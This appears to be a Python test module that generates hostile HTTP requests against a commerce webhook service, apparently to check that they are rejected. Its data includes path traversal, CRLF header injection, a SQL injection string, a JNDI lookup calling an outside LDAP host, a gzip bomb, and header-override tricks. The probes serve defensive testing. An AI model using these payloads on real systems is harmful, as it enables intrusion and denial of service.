"""Hostile calls of Cenit's services as they go over the wire.

What a handler makes of hostile calls is tested in `tests/cenit`; these are for what stands before
it, and they are written as a client would send them.
"""

import gzip
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

from commerce_hooks.keyring import CallbackTarget, KeyRing
from support.probes.probe import CANARY, JSON, STORE, Headers, Request

_ORDER = b'{"order":{"name":"#1001"}}'
_STRANGE_PARTS = {
    "an encoded slash": "a%2Fb",
    "dots": "..",
    "encoded dots": "%2e%2e",
    "double encoding": "%252e%252e",
    "a null": "a%00",
    "a line break": f"a%0D%0A{CANARY}",
    "an escape": "a%1B[31m",
    "broken UTF-8": "a%FF",
    "an overlong dot": "%C0%AE",
    "a letter encoded": "%61",
    "a plus": "a+b",
    "a matrix parameter": "a;b=1",
    "a question mark": "a%3Fb=1",
    "a template": "%7B%7Bitem_id%7D%7D",
    "SQL": "1'%20OR%20'1'='1",
    "a lookup": "$%7Bjndi:ldap:%2F%2Fhost.example%7D",
    "500 characters": "a" * 500,
    "a full-width letter": "%EF%BD%81",
    "a right-to-left override": "%E2%80%AEa",
}
_STRANGE_SERVICES = (
    *("CREATE_ORDER", "create_order%20", "create_order.json", "create-order", "__class__"),
    *("order_created", "get_", "create_order;a=1", "%63reate_order", "create_product"),
)
_BAD_BODIES = {
    "a form": b"order%5Bname%5D=1001",
    "XML": b"<order><name>1001</name></order>",
    "a list": b"[]",
    "a text": b'"#1001"',
    "null": b"null",
    "half": _ORDER[:-2],
    "twice": _ORDER * 2,
    "no order": b"{}",
    "no number": b'{"order":{}}',
    "a number that is true": b'{"order":{"name":true}}',
    "gzip": gzip.compress(_ORDER),
    "a gzip bomb": gzip.compress(b"[" * 10_000_000),
    "UTF-16": _ORDER.decode().encode("utf-16"),
    "no UTF-8": b'{"order":{"name":"\xff"}}',
    "a lone surrogate": b'{"order":{"name":"\\ud800"}}',
    "NaN": b'{"order":{"name":"1","a":NaN}}',
    "an integer of 100,000 digits": b'{"a":' + b"9" * 100_000 + b"}",
    "a name twice": b'{"order":{"name":"1"},"order":{"name":"2"}}',
    "200,000 brackets": b"[" * 200_000,
    "4 megabytes": b'{"a":"' + b"x" * 4_000_000 + b'"}',
}
_GOOD_HEADERS: dict[str, Headers] = {
    "another method": (("X-HTTP-Method-Override", "DELETE"),),
    "another place": (("X-Original-URL", "/cenit/other/get_orders"),),
    "other hosts": (("X-Forwarded-Host", "host.example"),),
    "an encoding that lies": (("Content-Encoding", "gzip"),),
    "200 names": tuple((f"X-Note-{number}", CANARY) for number in range(200)),
    "4,000 characters": (("X-Note", "x" * 4_000),),
    "escapes": (("X-Note", f"\x1b[31m{CANARY}"),),
}
_TYPES = ("application/x-www-form-urlencoded", "text/plain", "multipart/form-data; boundary=x", "x")
_QUERIES = {
    "an id twice": ("item_id=1&item_id=2", 400),
    "an id as a list": ("item_id[]=1", 400),
    "no id": (f"a={CANARY}", 400),
    "an empty id": ("item_id=", 400),
    "a line break in an id": ("item_id=1%0D%0Aforged", 400),
    "a null in an id": ("item_id=1%00", 400),
    "names of ours": ("item_id=1&metadata=x&event_id=y&error=z", 200),
    "another callback": ("item_id=1&callback=alert", 200),
    "500 names": ("item_id=1&" + "&".join(f"a{n}=1" for n in range(500)), 200),
}


@dataclass(frozen=True, slots=True)
class CallProbe:
    """One call; `status` is the right one, and without `error` in the answer if it is 200."""

    group: str
    name: str
    request: Request
    status: int


def call_probes(ring: KeyRing) -> Iterator[CallProbe]:
    """All of them, with tokens of this key ring."""
    token = ring.mint(CallbackTarget("cenit", STORE))
    yield from _paths(token)
    yield from _tokens(ring, token)
    yield from _parameters(token)


def _call(token: str, service: str = "create_order", **more: Any) -> Request:
    headers = (*more.pop("headers", JSON), ("X-Api-Key", token))
    path = more.pop("path", f"/cenit/{STORE}/{service}")
    return Request(path, more.pop("body", _ORDER), headers=headers, **more)


def _paths(token: str) -> Iterator[CallProbe]:
    for name, part in _STRANGE_PARTS.items():
        store = _call(token, path=f"/cenit/{part}cme/create_order")
        yield CallProbe("store in the path", name, store, 404)
        if part not in {"a" * 500, "%61"}:
            id_ = _call(token, path=f"/cenit/{STORE}/delete_product/{part}", body=b"")
            yield CallProbe("id in the path", name, id_, 404)
    for service in _STRANGE_SERVICES:
        yield CallProbe("service in the path", service, _call(token, service), 404)
    for path in ("", "/", f"/{STORE}", f"/{STORE}/", f"/{STORE}/create_order/1/2", "/a/b/c/d"):
        request = _call(token, path=f"/cenit{path}")
        yield CallProbe("other path", path or "none", request, 404)


def _tokens(ring: KeyRing, token: str) -> Iterator[CallProbe]:
    others = {
        "another store's": ring.mint(CallbackTarget("cenit", "acme-2")),
        "a callback's": ring.mint(CallbackTarget("konimbo", STORE, "order_created")),
        "a service's": ring.mint(CallbackTarget("cenit", STORE, "create_order")),
        "one character more": token + "A",
        "encoded": token.replace(".", "%2E"),
        "a secret for signing": ring.signing_secret(CallbackTarget("cenit", STORE)),
        "none": "-",
    }
    for name, other in others.items():
        yield CallProbe("token of something else", name, _call(other), 401)
    elsewhere: Mapping[str, Callable[[], Request]] = {
        "query": lambda: Request(
            f"/cenit/{STORE}/create_order", _ORDER, query=f"token={token}&x-api-key={token}"
        ),
        "cookie": lambda: Request(
            f"/cenit/{STORE}/create_order", _ORDER, headers=(*JSON, ("Cookie", f"a={token}"))
        ),
        "twice": lambda: _call(token, headers=(*JSON, ("X-Api-Key", token))),
        "and another": lambda: _call(token, headers=(*JSON, ("Authorization", "Bearer x"))),
    }
    for name, make in elsewhere.items():
        yield CallProbe("token in another place", name, make(), 401)


def _parameters(token: str) -> Iterator[CallProbe]:
    for name, body in _BAD_BODIES.items():
        yield CallProbe("body", name, _call(token, body=body), 400)
    for name, more in _GOOD_HEADERS.items():
        yield CallProbe("headers", name, _call(token, headers=(*JSON, *more)), 200)
    for content_type in _TYPES:
        request = _call(token, headers=(("Content-Type", content_type),))
        yield CallProbe("Content-Type that lies", content_type, request, 200)
    for name, (query, status) in _QUERIES.items():
        request = _call(token, "delete_product", body=b"", query=query)
        yield CallProbe("query", name, request, status)
    for method, status in (("GET", 405), ("PUT", 200), ("PATCH", 200), ("DELETE", 200)):
        yield CallProbe("method", method, _call(token, method=method), status)
    for service in ("get_orders", "get_product"):
        yield CallProbe("query service", service, _call(token, service), 501)
